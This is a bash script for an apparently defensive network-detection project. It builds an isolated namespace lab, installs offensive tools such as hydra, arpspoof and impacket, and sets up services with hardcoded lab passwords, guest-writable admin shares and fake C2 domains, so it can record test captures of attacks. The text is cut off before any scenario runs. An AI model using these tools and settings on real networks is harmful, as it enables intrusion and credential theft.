#!/usr/bin/env bash
# Picket traffic lab: runs real attack and everyday tools between network
# namespaces and records each scenario into its own small pcap under
# test/lab/captures/, next to a <name>.expect.json that says which alerts the
# capture must raise. Run as root: `bash test/lab/run-lab.sh [scenario...]`.
#
# Safety model (why it is safe to run on a developer machine):
# - every packet stays inside namespaces this script creates (prefix "pkl-");
#   the host's interfaces, routes and addresses are never touched;
# - lab hosts use 10.77.0.0/16; the "Internet" is only documentation and
#   benchmarking ranges (198.51.100.0/24, 203.0.113.0/24, 192.0.2.0/24,
#   198.18.0.0/15) held by one namespace; nothing routes anywhere else;
# - every traffic loop has a fixed count and runs under `timeout`;
# - an EXIT trap stops every process the script started (by PID, and the
#   processes left inside its own namespaces), deletes the namespaces and
#   removes its temporary files; one run at a time holds a lock, so the
#   namespaces a new run clears first (same prefix only) can only be what an
#   aborted run left behind, never a running one's;
# - each capture is checked after recording: any IPv4 address outside the
#   lab ranges, or any IPv6 frame, fails the scenario and the pcap is dropped
#   (the ipv6 scenario alone may hold IPv6, from link-local and the lab's
#   ULA fd77::/16 only; every scenario starts with IPv6 off again).
set -uo pipefail

readonly LAB_DIR="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
readonly OUT_DIR="${PKL_LAB_OUT:-$LAB_DIR/captures}"
# Namespace prefix: cleanup deletes only namespaces with this prefix.
readonly P="pkl-"
# 65535 keeps every payload; offloads are switched off so frames stay <= 1514 bytes.
readonly SNAPLEN=65535
# Scenarios that move megabytes keep the first bytes of each frame only (headers and the
# start of a request: the rules read sequence numbers, and the capture stays small).
readonly SHORT_SNAP_SCENARIOS=(exfil-upload)
readonly SHORT_SNAPLEN=160
# A capture larger than this is a runaway loop, not a fixture.
readonly MAX_PCAP_BYTES=$((1000 * 1000))
# Upper bound for one scenario (the longest, dhcp-flood, needs about 40 s).
readonly SCENARIO_MAX_SECONDS=300
# Upper bound for lab services: they can never outlive a stuck run by much.
readonly SERVICE_MAX_SECONDS=3600
# Lab user for sshd/smb; the accounts exist only inside the sshd mount namespace.
readonly LAB_USER="labuser"
readonly LAB_PASS="Lab-Passw0rd"
readonly LDAP_BASE="dc=lab,dc=example"

readonly ALL_SCENARIOS=(scan-syn scan-connect scan-stealth scan-udp scan-grid sweep-445 arp-scan nd-scan dhcp-rogue dhcp-flood dhcp-flip
  dns-flood dns-tunnel dns-tunnel-short ldap-enum ldap-sealed ssh-brute ssh-hydra smb-internet smb-files lateral new-device benign intel web-variants ipv6 beacon mcast-ping
  name-poisoning arp-spoof icmp-tunnel nd-spoof rogue-ra admin-share exe-download exfil-upload ntlm-relay ntlm-relay-far ldap-recon crypto-mining cleartext-login form-login form-brute snmp mail-fetch mail-imap mail-upload ftp-files mail-files mail-out intel-direct form-spray ws-tunnel socks external-proxy doh overpass ping-sweep named-pipe sip redis tftp mqtt open-services mssql)

# Addresses a capture may contain (anything else means a leak and fails the scenario).
readonly SAFE_NETS=(net:10.77.0.0/16 net:198.51.100.0/24 net:203.0.113.0/24 net:192.0.2.0/24
  net:198.18.0.0/15 host:0.0.0.0 host:255.255.255.255 host:224.0.0.22 host:224.0.0.251 host:224.0.0.252)
# IPv6 a capture may contain, in the scenarios of V6_SCENARIOS only: link-local,
# link-scope multicast, the unspecified address (duplicate address detection)
# and the lab's ULA (fd77:1::/64 servers, fd77:2::/64 workstations).
readonly SAFE_NETS6=(net:fe80::/10 net:ff02::/16 net:fd77::/16 host:::)
readonly V6_SCENARIOS=(ipv6 nd-scan mcast-ping nd-spoof rogue-ra)

# ---------------------------------------------------------------- lab hosts
# name  address/prefix  MAC  gateway   (MACs are fixed so captures from different
# runs and scenarios agree on who is who; 02: = locally administered)
HOSTS=(
  "dhcp 10.77.1.1/24 02:77:01:00:00:01 10.77.1.254"
  "srv 10.77.1.10/24 02:77:01:00:00:0a 10.77.1.254"
  "bak 10.77.1.20/24 02:77:01:00:00:14 10.77.1.254"
)
for n in $(seq 20 49); do
  HOSTS+=("ws$n 10.77.2.$n/24 02:77:02:00:00:$(printf %02x "$n") 10.77.2.254")
done
HOSTS+=("rogue 10.77.2.66/24 02:77:02:00:00:42 10.77.2.254")
# A bare box with no address: DHCP client experiments change its MAC.
HOSTS+=("dhcpc - 02:77:02:00:00:46 -")

readonly MAC_WS20="02:77:02:00:00:14"
readonly MAC_ROGUE="02:77:02:00:00:42"
readonly MAC_NEWDEV="02:77:01:0d:ec:01"
readonly MAC_NEWDEV6="02:77:01:0d:ec:06"

WORK=""
SCEN_PID=""
ALL_NS=()
FAILED=()
DONE=()

log() { printf '[lab %s] %s\n' "$(date +%H:%M:%S)" "$*" >&2; }
die() { log "ERROR: $*"; exit 1; }

# ------------------------------------------------------------- preflight
preflight() {
  [ "$(id -u)" = 0 ] || die "run as root (network namespaces need it)"
  command -v ip >/dev/null || die "iproute2 'ip' is missing"
  # Never let a proxy setting send lab clients towards a real address.
  unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY all_proxy ALL_PROXY no_proxy NO_PROXY
  export LDAPNOINIT=1
}

# One lab run at a time: a second run would clear the first one's namespaces.
# The lock is the open file descriptor 9; the kernel drops it when this shell
# exits, however it exits, so an aborted run never leaves it held.
readonly LOCK_FILE="${PKL_LAB_LOCK:-/run/picket-lab.lock}"
take_lock() {
  command -v flock >/dev/null || die "util-linux 'flock' is missing"
  exec 9>"$LOCK_FILE" || die "cannot open the lab lock $LOCK_FILE"
  flock -n 9 || die "another lab run is in progress (it holds $LOCK_FILE); wait for it to finish"
}

install_tools() {
  if [ "${PKL_LAB_SKIP_INSTALL:-0}" = 1 ]; then return 0; fi
  local need=() cmd pkg
  # command:package pairs; install only what is missing.
  for pair in nmap:nmap arping:arping dnsmasq:dnsmasq-base dhclient:isc-dhcp-client dig:dnsutils \
    slapd:slapd ldapsearch:ldap-utils sshd:openssh-server ssh:openssh-client sshpass:sshpass hydra:hydra \
    arpspoof:dsniff atk6-parasite6:thc-ipv6 smbclient:smbclient smbd:samba nmbd:samba nmblookup:samba-common-bin python3:python3 ncat:ncat nc:netcat-openbsd curl:curl tcpdump:tcpdump \
    vsftpd:vsftpd aiosmtpd:python3-aiosmtpd busybox:busybox ethtool:ethtool ping:iputils-ping openssl:openssl impacket-rpcdump:python3-impacket \
    snmpd:snmpd snmpget:snmp onesixtyone:onesixtyone dovecot:dovecot-imapd microsocks:microsocks dnsdist:dnsdist krb5kdc:krb5-kdc kadmin.local:krb5-admin-server kinit:krb5-user kamailio:kamailio svwar:sipvicious sipsak:sipsak redis-server:redis-server redis-cli:redis-tools in.tftpd:tftpd-hpa tftp:tftp-hpa mosquitto:mosquitto mosquitto_pub:mosquitto-clients; do
    cmd=${pair%%:*}; pkg=${pair#*:}
    command -v "$cmd" >/dev/null 2>&1 || [ -x "/usr/sbin/$cmd" ] || need+=("$pkg")
  done
  [ ${#need[@]} -eq 0 ] && return 0
  log "installing: ${need[*]}"
  export DEBIAN_FRONTEND=noninteractive
  apt-get update -qq || die "apt-get update failed"
  # --no-install-recommends keeps it small; policy-rc.d/containers keep services from starting.
  apt-get install -y -qq --no-install-recommends "${need[@]}" >/dev/null || die "apt-get install failed"
}

# --------------------------------------------------------------- cleanup
# Stop the processes listed in a pid file (our own `timeout` wrappers).
kill_pidfile() {
  local pf=$1 pid
  [ -f "$pf" ] || return 0
  while read -r pid; do [ -n "$pid" ] && kill -TERM "$pid" 2>/dev/null; done <"$pf"
  sleep 0.3
  while read -r pid; do [ -n "$pid" ] && kill -KILL "$pid" 2>/dev/null; done <"$pf"
  : >"$pf"
}

# Remove every pkl- namespace (ours, or an aborted earlier run's: the lock
# keeps a second run from starting while one is live) and the processes
# still inside them, by PID.
remove_namespaces() {
  local ns pid
  for ns in $(ip netns list 2>/dev/null | awk '{print $1}' | grep "^${P}" || true); do
    for pid in $(ip netns pids "$ns" 2>/dev/null); do kill -TERM "$pid" 2>/dev/null; done
  done
  sleep 0.3
  for ns in $(ip netns list 2>/dev/null | awk '{print $1}' | grep "^${P}" || true); do
    for pid in $(ip netns pids "$ns" 2>/dev/null); do kill -KILL "$pid" 2>/dev/null; done
    ip netns del "$ns" 2>/dev/null
    rm -rf "/etc/netns/$ns"
  done
  rmdir /etc/netns 2>/dev/null || true
}

cleanup() {
  local rc=$?
  trap - EXIT INT TERM
  # The running scenario first, so that it starts nothing new while we clean up.
  [ -n "$SCEN_PID" ] && kill -TERM "$SCEN_PID" 2>/dev/null
  if [ -n "$WORK" ]; then
    kill_pidfile "$WORK/scenario.pids"
    kill_pidfile "$WORK/service.pids"
  fi
  remove_namespaces
  [ -n "$WORK" ] && rm -rf "$WORK"
  exit "$rc"
}

# ---------------------------------------------------------------- helpers
nsx() { local ns=$1; shift; ip netns exec "${P}$ns" "$@"; }

# Start a bounded background process inside a namespace; its PID goes to a pid file.
# usage: spawn PIDFILE NS SECONDS cmd...
spawn() {
  local pf=$1 ns=$2 secs=$3; shift 3
  timeout --kill-after=3 "$secs" ip netns exec "${P}$ns" "$@" >>"$WORK/logs/$ns.log" 2>&1 &
  echo $! >>"$pf"
}
svc() { spawn "$WORK/service.pids" "$1" "$SERVICE_MAX_SECONDS" "${@:2}"; }
scen_bg() { spawn "$WORK/scenario.pids" "$1" "$SCENARIO_MAX_SECONDS" "${@:2}"; }

# Wait until something listens on ADDR:PORT (tcp) inside NS (TRIES checks 0.2 s apart, 60 by default).
wait_listen() {
  local ns=$1 port=$2 tries=${3:-60} i
  for i in $(seq "$tries"); do
    nsx "$ns" ss -Hltn "sport = :$port" 2>/dev/null | grep -q . && return 0
    sleep 0.2
  done
  log "nothing listens on $ns:$port"; return 1
}
wait_listen_udp() {
  local ns=$1 port=$2 i
  for i in $(seq 60); do
    nsx "$ns" ss -Hlun "sport = :$port" 2>/dev/null | grep -q . && return 0
    sleep 0.2
  done
  log "nothing listens on $ns:udp/$port"; return 1
}

ssh_opts=(-F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null
  -o GlobalKnownHostsFile=/dev/null -o PubkeyAuthentication=no -o PreferredAuthentications=password
  -o NumberOfPasswordPrompts=1 -o ConnectTimeout=5 -o LogLevel=ERROR)

smbc() { local ns=$1; shift; nsx "$ns" timeout 15 smbclient -s "$WORK/smb-client.conf" "$@"; }
ldaps() { local ns=$1; shift; nsx "$ns" timeout 15 ldapsearch -x -LLL -H ldap://10.77.1.10/ -b "$LDAP_BASE" "$@"; }
curl_ua() { # ns ua url [--resolve ...]
  local ns=$1 ua=$2 url=$3; shift 3
  nsx "$ns" curl -s -o /dev/null --noproxy '*' --max-time 5 -A "$ua" "$@" "$url" || true
}
readonly BROWSER_UA="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"

# -------------------------------------------------------------- topology
# Common per-namespace settings: no IPv6 (keeps captures to the scenario's
# traffic), no reverse-path filter (two subnets share one broadcast domain).
ns_create() {
  local ns=$1
  ip netns add "${P}$ns" || return 1
  ALL_NS+=("$ns")
  mkdir -p "/etc/netns/${P}$ns"
  # Any accidental name lookup goes to the lab resolver, never the host's.
  echo "nameserver 10.77.1.1" >"/etc/netns/${P}$ns/resolv.conf"
  nsx "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1 \
    net.ipv4.conf.all.rp_filter=0 net.ipv4.conf.default.rp_filter=0
  nsx "$ns" ip link set lo up
}

# Plug NS into the switch with interface eth0 and the given MAC.
ns_plug() {
  local ns=$1 mac=$2 port="p-$1"
  ip link add name eth0 netns "${P}$ns" address "$mac" type veth peer name "$port" netns "${P}sw" || return 1
  # Offloads off: frames on the wire are real MTU-sized frames with correct checksums.
  nsx "$ns" ethtool -K eth0 tx off tso off gso off gro off >/dev/null 2>&1
  nsx sw ethtool -K "$port" tx off tso off gso off gro off >/dev/null 2>&1
  nsx sw ip link set "$port" master br0 up
  nsx "$ns" ip link set eth0 up
}

add_host() {
  local ns=$1 addr=$2 mac=$3 gw=$4
  ns_create "$ns" && ns_plug "$ns" "$mac" || return 1
  [ "$addr" = - ] && return 0
  nsx "$ns" ip addr add "$addr" dev eth0
  # One broadcast domain carries both lab subnets (so a single capture point sees
  # every frame exactly once): the other subnet is on-link, the Internet via the router.
  case "$addr" in
    10.77.1.*) nsx "$ns" ip route add 10.77.2.0/24 dev eth0 ;;
    10.77.2.*) nsx "$ns" ip route add 10.77.1.0/24 dev eth0 ;;
  esac
  nsx "$ns" ip route add default via "$gw"
}

build_lab() {
  log "building lab network"
  remove_namespaces
  ns_create sw || return 1
  nsx sw ip link add br0 type bridge stp_state 0 mcast_snooping 0 forward_delay 0
  nsx sw ip link set br0 up
  local h
  for h in "${HOSTS[@]}"; do
    # shellcheck disable=SC2086
    add_host $h || return 1
  done
  # Router: LAN leg on the switch, WAN leg straight to the "Internet" namespace.
  ns_create rtr && ns_plug rtr 02:77:00:00:00:fe || return 1
  nsx rtr ip addr add 10.77.1.254/24 dev eth0
  nsx rtr ip addr add 10.77.2.254/24 dev eth0
  nsx rtr sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0
  ns_create inet || return 1
  ip link add name wan0 netns "${P}rtr" type veth peer name eth0 netns "${P}inet" || return 1
  nsx rtr ethtool -K wan0 tx off tso off gso off gro off >/dev/null 2>&1
  nsx inet ethtool -K eth0 tx off tso off gso off gro off >/dev/null 2>&1
  nsx rtr ip addr add 198.51.100.1/24 dev wan0
  nsx rtr ip link set wan0 up
  nsx inet ip addr add 198.51.100.10/24 dev eth0
  nsx inet ip link set eth0 up
  # Threat-intel "bad" addresses live on the Internet host too (documentation ranges only).
  nsx inet ip addr add 203.0.113.66/32 dev lo
  nsx inet ip addr add 192.0.2.99/32 dev lo
  nsx inet ip addr add 198.18.0.77/32 dev lo
  nsx inet ip route add 10.77.0.0/16 via 198.51.100.1
  nsx rtr ip route add 203.0.113.0/24 via 198.51.100.10
  nsx rtr ip route add 192.0.2.0/24 via 198.51.100.10
  nsx rtr ip route add 198.18.0.0/15 via 198.51.100.10
  # No default route on the router: a stray packet to any other address dies here.
}

# --------------------------------------------------------------- services
write_dnsmasq_legit() {
  local f="$WORK/dnsmasq-legit.conf"
  cat >"$f" <<EOF
# Authorised DHCP server and resolver of the lab (10.77.1.1).
interface=eth0
bind-interfaces
listen-address=10.77.1.1
no-resolv
no-hosts
no-poll
bogus-priv
domain-needed
log-queries
log-dhcp
log-facility=$WORK/logs/dnsmasq-legit.log
pid-file=$WORK/dnsmasq-legit.pid
dhcp-leasefile=$WORK/dnsmasq-legit.leases
user=root
# Fast answers; the lab has no address conflicts to probe for.
no-ping
dhcp-authoritative
# Both lab subnets share one broadcast domain.
shared-network=eth0,10.77.2.0
dhcp-range=set:srv,10.77.1.100,10.77.1.199,255.255.255.0,1h
dhcp-range=set:ws,10.77.2.0,static,255.255.255.0,1h
dhcp-option=tag:srv,option:router,10.77.1.254
dhcp-option=tag:ws,option:router,10.77.2.254
dhcp-option=option:dns-server,10.77.1.1
dhcp-option=option:domain-name,lab.example
# Known workstations (reservations).
dhcp-host=02:77:02:00:00:14,10.77.2.20,set:ws
dhcp-host=02:77:02:00:00:15,10.77.2.21,set:ws
dhcp-host=02:77:02:00:00:16,10.77.2.22,set:ws
dhcp-host=02:77:02:00:00:46,10.77.2.70,set:ws
dhcp-host=02:77:02:00:00:3c,10.77.2.60,set:ws
dhcp-host=02:77:02:00:00:3d,10.77.2.61,set:ws
dhcp-host=02:77:02:00:00:3e,10.77.2.62,set:ws
dhcp-host=02:77:02:00:00:3f,10.77.2.63,set:ws
dhcp-host=02:77:02:00:00:40,10.77.2.64,set:ws
# Lab names.
local=/lab.example/
host-record=dhcp.lab.example,10.77.1.1
host-record=srv.lab.example,10.77.1.10
host-record=ldap.lab.example,10.77.1.10
host-record=files.lab.example,10.77.1.10
host-record=backup.lab.example,10.77.1.20
host-record=gw.lab.example,10.77.1.254
# Workstations registered in DNS (as AD DNS keeps the names DHCP hands out), the rogue host included.
host-record=ws20.lab.example,10.77.2.20
host-record=ws21.lab.example,10.77.2.21
host-record=lab66.lab.example,10.77.2.66
# "Internet" names all point at documentation addresses.
address=/example.com/198.51.100.10
address=/example.net/198.51.100.10
address=/example.org/198.51.100.10
txt-record=example.com,"v=spf1 -all"
# Threat-intel fixtures (see intel-fixtures.md).
address=/c2-beacon.malicious.example/203.0.113.66
address=/payload.bad-cdn.test/192.0.2.99
address=/relay7.onion-gw.test/198.18.0.77
EOF
}

start_dnsmasq_legit() {
  rm -f "$WORK/dnsmasq-legit.leases"; touch "$WORK/dnsmasq-legit.leases"
  scen_bg dhcp dnsmasq -k -C "$WORK/dnsmasq-legit.conf"
  wait_listen_udp dhcp 67 && wait_listen_udp dhcp 53
}

write_sshd() {
  local d="$WORK/sshd"
  mkdir -p "$d" "$WORK/home/$LAB_USER"
  ssh-keygen -q -t ed25519 -N '' -C lab -f "$d/ssh_host_ed25519_key" || return 1
  # The lab account exists only in copies of passwd/shadow bind-mounted over the
  # real ones inside sshd's own mount namespace: the host's accounts never change.
  cp /etc/passwd "$d/passwd"; cp /etc/shadow "$d/shadow"
  echo "$LAB_USER:x:47770:47770:Picket lab:$WORK/home/$LAB_USER:/bin/sh" >>"$d/passwd"
  echo "$LAB_USER:$(openssl passwd -6 "$LAB_PASS"):19000:0:99999:7:::" >>"$d/shadow"
  chmod 600 "$d/shadow"
  cat >"$d/sshd_config" <<EOF
ListenAddress 10.77.1.10
HostKey $d/ssh_host_ed25519_key
PidFile $d/sshd.pid
UsePAM no
PasswordAuthentication yes
KbdInteractiveAuthentication no
PubkeyAuthentication no
PermitRootLogin no
StrictModes no
AllowUsers $LAB_USER
# The brute-force scenario opens connections one after another; let them all in.
MaxStartups 100
UseDNS no
EOF
  cat >"$d/run.sh" <<EOF
#!/bin/sh
mount --bind $d/passwd /etc/passwd || exit 1
mount --bind $d/shadow /etc/shadow || exit 1
mount -t tmpfs -o mode=755 tmpfs /run || exit 1
mkdir -p /run/sshd
exec /usr/sbin/sshd -D -e -f $d/sshd_config
EOF
  chmod +x "$d/run.sh"
}

write_slapd() {
  local d="$WORK/slapd" i
  mkdir -p "$d/db"
  cat >"$d/slapd.conf" <<EOF
include /etc/ldap/schema/core.schema
include /etc/ldap/schema/cosine.schema
include /etc/ldap/schema/inetorgperson.schema
include /etc/ldap/schema/nis.schema
pidfile $d/slapd.pid
argsfile $d/slapd.args
modulepath /usr/lib/ldap
moduleload back_mdb
# SASL binds (DIGEST-MD5, with its encryption layer) map the SASL user to its entry.
authz-regexp uid=([^,]*),cn=[^,]*,cn=auth uid=\$1,ou=people,$LDAP_BASE
database mdb
maxsize 10485760
suffix "$LDAP_BASE"
rootdn "cn=admin,$LDAP_BASE"
rootpw admin-secret
directory $d/db
access to attrs=userPassword by anonymous auth by * none
access to * by * read
EOF
  {
    printf 'dn: %s\nobjectClass: dcObject\nobjectClass: organization\ndc: lab\no: Picket Lab\n\n' "$LDAP_BASE"
    printf 'dn: ou=people,%s\nobjectClass: organizationalUnit\nou: people\n\n' "$LDAP_BASE"
    printf 'dn: ou=groups,%s\nobjectClass: organizationalUnit\nou: groups\n\n' "$LDAP_BASE"
    for i in $(seq 1 30); do
      printf 'dn: uid=user%02d,ou=people,%s\nobjectClass: inetOrgPerson\nuid: user%02d\ncn: User %02d\nsn: User\nmail: user%02d@lab.example\nuserPassword: pw-user%02d\n\n' \
        "$i" "$LDAP_BASE" "$i" "$i" "$i" "$i"
    done
    printf 'dn: uid=alice,ou=people,%s\nobjectClass: inetOrgPerson\nuid: alice\ncn: Alice Admin\nsn: Admin\nuserPassword: alice-pw\n\n' "$LDAP_BASE"
    printf 'dn: cn=admins,ou=groups,%s\nobjectClass: groupOfNames\ncn: admins\nmember: uid=alice,ou=people,%s\n\n' "$LDAP_BASE" "$LDAP_BASE"
    printf 'dn: cn=finance,ou=groups,%s\nobjectClass: groupOfNames\ncn: finance\nmember: uid=user01,ou=people,%s\n\n' "$LDAP_BASE" "$LDAP_BASE"
  } >"$d/seed.ldif"
  slapadd -q -f "$d/slapd.conf" -l "$d/seed.ldif" >"$WORK/logs/slapadd.log" 2>&1
}

# SMB server config for NS at ADDR (one per server namespace). With a third
# argument "files", the server also has the guest-writable share "data" and
# lets SMB1 (NT1) clients in, for the smb-files scenario.
# The lines of a Samba config that put a daemon's lock, state, cache, private and pid
# directories under DIR (made here): every lab Samba daemon keeps its own.
samba_dirs() {
  local d=$1 k
  mkdir -p "$d"/{lock,state,cache,private,pid}
  for k in lock state cache; do printf '  %s directory = %s/%s\n' "$k" "$d" "$k"; done
  printf '  private dir = %s/private\n  pid directory = %s/pid\n' "$d" "$d"
}

write_smbd() {
  local name=$1 addr=$2 files=${3:-} d="$WORK/smb-$1" min=SMB2
  mkdir -p "$d"/{ncalrpc,bind-dns,share}
  echo "quarterly figures" >"$d/share/readme.txt"
  if [ "$files" = files ]; then
    min=NT1
    mkdir -p "$d/data"
    # The guest account writes here.
    chmod 777 "$d/data"
  fi
  cat >"$d/smb.conf" <<EOF
[global]
  workgroup = PKLLAB
  server role = standalone server
  map to guest = Bad User
  smb ports = 445
  disable netbios = yes
  interfaces = $addr
  bind interfaces only = yes
  load printers = no
  printing = bsd
  printcap name = /dev/null
  disable spoolss = yes
$(samba_dirs "$d")
  ncalrpc dir = $d/ncalrpc
  binddns dir = $d/bind-dns
  log file = $WORK/logs/smbd-$name.log
  server min protocol = $min
[public]
  path = $d/share
  guest ok = yes
  read only = yes
EOF
  if [ "$files" = files ]; then
    cat >>"$d/smb.conf" <<EOF
[data]
  path = $d/data
  guest ok = yes
  read only = no
EOF
  fi
  if [ "$files" = admin ]; then
    # Windows' administrative shares, by name (a guest-writable folder each here): what remote
    # execution tools copy their programs to.
    mkdir -p "$d/windows" "$d/drive-c"
    chmod 777 "$d/windows" "$d/drive-c"
    cat >>"$d/smb.conf" <<EOF
[ADMIN\$]
  path = $d/windows
  guest ok = yes
  read only = no
  browseable = no
[C\$]
  path = $d/drive-c
  guest ok = yes
  read only = no
  browseable = no
EOF
  fi
}

write_client_confs() {
  local d="$WORK/smbc"
  mkdir -p "$d"/{lock,state,cache,private}
  cat >"$WORK/smb-client.conf" <<EOF
[global]
  workgroup = PKLLAB
  client min protocol = SMB2
  name resolve order = host
  lock directory = $d/lock
  state directory = $d/state
  cache directory = $d/cache
  private dir = $d/private
EOF
  # DHCP client scripts: configure nothing (the DHCP exchange is what we record),
  # or configure the leased address (new device).
  printf '#!/bin/sh\nexit 0\n' >"$WORK/noop.sh"
  cat >"$WORK/dhclient-addr.sh" <<'EOF'
#!/bin/sh
case "$reason" in
  BOUND|RENEW|REBIND|REBOOT)
    ip addr add "$new_ip_address/$new_subnet_mask" dev "$interface" 2>/dev/null
    [ -n "${new_routers:-}" ] && ip route replace default via "${new_routers%% *}" 2>/dev/null
    echo "$new_ip_address" >"$(dirname "$0")/newdev.ip" ;;
esac
exit 0
EOF
  chmod +x "$WORK/noop.sh" "$WORK/dhclient-addr.sh"
  # Minimal RDP and WinRM peers on workstation 10.77.2.21, so lateral connections carry
  # payload both ways like real sessions: an X.224 Connection Confirm after the
  # client's Connection Request, and WinRM's 401 Negotiate challenge.
  cat >"$WORK/rdp-reply.sh" <<'EOF'
#!/bin/sh
IFS= read -r cookie
# TPKT(19) + X.224 CC + RDP_NEG_RSP selecting TLS.
printf '\003\000\000\023\016\320\000\000\022\064\000\002\000\010\000\001\000\000\000'
EOF
  cat >"$WORK/winrm-reply.sh" <<'EOF'
#!/bin/sh
len=0
while IFS= read -r line; do
  line=$(printf '%s' "$line" | tr -d '\r')
  [ -z "$line" ] && break
  case "$line" in [Cc]ontent-[Ll]ength:*) len=${line#*: } ;; esac
done
[ "$len" -gt 0 ] && head -c "$len" >/dev/null
printf 'HTTP/1.1 401 \r\nServer: Microsoft-HTTPAPI/2.0\r\nWWW-Authenticate: Negotiate\r\nWWW-Authenticate: Kerberos\r\nContent-Length: 0\r\n\r\n'
EOF
  chmod +x "$WORK/rdp-reply.sh" "$WORK/winrm-reply.sh"
  mkdir -p "$WORK/www"
  printf '<!doctype html><title>Example</title><p>Hello from the lab Internet.</p>\n' >"$WORK/www/index.html"
  printf 'User-agent: *\nDisallow:\n' >"$WORK/www/robots.txt"
}

# dhclient config announcing HOSTNAME (never the machine's own hostname).
dhclient_conf() {
  local f="$WORK/dhclient-$1.conf"
  printf 'send host-name "%s";\nrequest subnet-mask, broadcast-address, routers, domain-name, domain-name-servers;\ntimeout 10;\nretry 1;\n' "$1" >"$f"
  echo "$f"
}
# One DHCP exchange with ISC dhclient in NS, announcing HOSTNAME; SCRIPT handles the lease.
run_dhclient() {
  local ns=$1 host=$2 script=${3:-$WORK/noop.sh} conf logf pid i
  conf=$(dhclient_conf "$host")
  logf=$(mktemp "$WORK/logs/dhclient-$ns.XXXXXX")
  timeout 20 ip netns exec "${P}$ns" dhclient -1 -d -v -cf "$conf" -sf "$script" -lf "$WORK/dhclient-$ns.leases" \
    -pf "$WORK/dhclient-$ns.pid" eth0 >"$logf" 2>&1 &
  pid=$!
  # -d keeps dhclient in the foreground: stop it (by PID) once it is bound.
  for i in $(seq 75); do
    grep -q "bound to" "$logf" && break
    kill -0 "$pid" 2>/dev/null || break
    sleep 0.2
  done
  sleep 0.3
  kill -TERM "$pid" 2>/dev/null; wait "$pid" 2>/dev/null || true
  grep -q "bound to" "$logf" || { log "dhclient in $ns got no lease"; return 1; }
}

start_services() {
  log "starting services"
  write_dnsmasq_legit; write_client_confs
  write_sshd || return 1
  write_slapd || { log "slapadd failed: $(cat "$WORK/logs/slapadd.log")"; return 1; }
  write_smbd srv 10.77.1.10; write_smbd inet 198.51.100.10; write_smbd ws21 10.77.2.21 admin; write_smbd bak 10.77.1.20 files
  svc srv unshare -m --propagation private "$WORK/sshd/run.sh"
  svc srv slapd -d 0 -h ldap://10.77.1.10/ -f "$WORK/slapd/slapd.conf"
  svc srv smbd -F --no-process-group -s "$WORK/smb-srv/smb.conf"
  svc inet smbd -F --no-process-group -s "$WORK/smb-inet/smb.conf"
  svc ws21 smbd -F --no-process-group -s "$WORK/smb-ws21/smb.conf"
  svc bak smbd -F --no-process-group -s "$WORK/smb-bak/smb.conf"
  svc inet busybox httpd -f -p 80 -h "$WORK/www"
  svc inet busybox httpd -f -p 8080 -h "$WORK/www"
  svc inet ncat -lk 443
  svc inet ncat -lk 9001
  svc ws21 ncat -lk 3389 --sh-exec "$WORK/rdp-reply.sh"
  svc ws21 ncat -lk 5985 --sh-exec "$WORK/winrm-reply.sh"
  wait_listen srv 22 && wait_listen srv 389 && wait_listen srv 445 && wait_listen inet 445 &&
    wait_listen inet 80 && wait_listen inet 8080 && wait_listen ws21 445 && wait_listen bak 445 && wait_listen ws21 3389 && wait_listen ws21 5985
}

# ---------------------------------------------------------------- capture
CAP_PID=""
start_capture() {
  local name=$1 i snap=$SNAPLEN
  rm -f "$WORK/$name.pcap"
  [[ " ${SHORT_SNAP_SCENARIOS[*]} " == *" $name "* ]] && snap=$SHORT_SNAPLEN
  # -Z root: tcpdump would otherwise drop to a user that cannot write the private work dir.
  timeout --kill-after=3 "$SCENARIO_MAX_SECONDS" ip netns exec "${P}sw" \
    tcpdump -i br0 -n -U -s "$snap" -Z root -w "$WORK/$name.pcap" >"$WORK/logs/tcpdump-$name.log" 2>&1 &
  CAP_PID=$!
  echo "$CAP_PID" >>"$WORK/scenario.pids"
  for i in $(seq 50); do
    grep -q "listening on" "$WORK/logs/tcpdump-$name.log" 2>/dev/null && { sleep 0.3; return 0; }
    sleep 0.1
  done
  log "tcpdump did not start: $(cat "$WORK/logs/tcpdump-$name.log")"; return 1
}
# Called inside the scenario's subshell, which also started the capture (so `wait` works).
stop_capture() {
  [ -n "$CAP_PID" ] || return 0
  sleep 1  # let the last answers arrive
  kill -INT "$CAP_PID" 2>/dev/null; wait "$CAP_PID" 2>/dev/null
  CAP_PID=""
}

# Count packets in NAME's capture matching a tcpdump filter.
pcount() { tcpdump -nr "$WORK/$1.pcap" "$2" 2>/dev/null | wc -l; }
# Fail the scenario unless at least MIN packets match FILTER.
require() {
  local name=$1 min=$2 filter=$3 n
  # Under pipefail a filter tcpdump refuses fails the count: say so rather than end the scenario silently.
  n=$(pcount "$name" "$filter") || { log "$name: tcpdump cannot apply the filter '$filter'"; return 1; }
  if [ "$n" -lt "$min" ]; then log "$name: only $n packets match '$filter' (need $min)"; return 1; fi
}

# "(src net a or src host b ...)" for DIR in src|dst.
safe_expr() {
  local dir=$1 e="" item
  for item in "${SAFE_NETS[@]}"; do e+="${e:+ or }$dir ${item%%:*} ${item#*:}"; done
  echo "($e)"
}
safe_expr6() {
  local dir=$1 e="" item
  for item in "${SAFE_NETS6[@]}"; do e+="${e:+ or }$dir ${item%%:*} ${item#*:}"; done
  echo "($e)"
}
# Everything in the capture must stay inside the lab ranges.
verify_capture() {
  local name=$1 f="$WORK/$1.pcap" size leak v6
  [ -s "$f" ] || { log "$name: empty capture"; return 1; }
  size=$(stat -c %s "$f")
  [ "$size" -le "$MAX_PCAP_BYTES" ] || { log "$name: capture is $size bytes (max $MAX_PCAP_BYTES)"; return 1; }
  leak=$(pcount "$name" "ip and not ($(safe_expr src) and $(safe_expr dst))")
  [ "$leak" -eq 0 ] || { log "$name: $leak packets outside the lab ranges"; return 1; }
  if [[ " ${V6_SCENARIOS[*]} " == *" $name "* ]]; then
    v6=$(pcount "$name" "ip6 and not ($(safe_expr6 src) and $(safe_expr6 dst))")
    [ "$v6" -eq 0 ] || { log "$name: $v6 IPv6 packets outside link-local and fd77::/16"; return 1; }
  else
